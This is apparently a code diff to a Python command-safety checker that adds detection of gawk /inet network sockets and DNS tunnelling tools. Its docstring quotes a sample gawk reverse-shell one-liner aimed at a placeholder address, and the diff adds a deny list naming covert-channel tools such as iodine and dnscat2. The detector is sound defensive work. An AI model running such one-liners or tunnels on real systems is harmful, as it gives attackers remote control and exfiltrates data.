@@ -1041,3 +1041,30 @@ def carry_secrets(cmd: Cmd) -> None:
     parts = dest.strip("\"'").replace("\\", "/").split("/")
     if not dest.startswith(("/", "~", "$")) and len(parts) > 1:
         env[SECRET_HELD + parts[0].lower()] = "1"  # `repo/keys`: the repository holds them
+
+
+# --- sockets opened by programs that are not network tools (safety-m8) ----------------------
+_INET_FILE = re.compile(r"/inet[46]?/(?:tcp|udp)/\d+/[^/\s\"']+/\d+")
+DNS_TUNNELS = frozenset(
+    names(
+        "iodine iodined dns2tcpc dns2tcpd dnscat dnscat2 dnscat2-client dnstt-client dnstt-server"
+    )
+)
+
+
+def socket_programs(cmd: Cmd) -> bool:
+    """`gawk 'BEGIN{s="/inet/tcp/0/203.0.113.9/4444"; while((s |& getline c)>0) …}'`: gawk's
+    network special files connect to a host; reading commands from it and running them (or
+    feeding it a command's output) is a reverse shell: critical. `iodine`, `dnscat2`,
+    `dns2tcpc`: traffic tunnelled through DNS queries (a covert channel): critical."""
+    if cmd.name in DNS_TUNNELS:
+        cmd.add(C, "tunnel", f"{cmd.name} tunnels traffic through DNS (a covert channel)")
+        return True
+    code = " ".join(w.text for w in cmd.args if not w.dynamic)
+    if "/inet" not in code or not _INET_FILE.search(code):
+        return False
+    if re.search(r"\|&|\|\s*getline|system\s*\(", code):
+        cmd.add(C, "reverse-shell", f"{cmd.name} connects to a host and runs what it sends")
+    else:
+        cmd.add(C, "exfiltration", f"{cmd.name} opens a network connection (/inet)")
+    return True
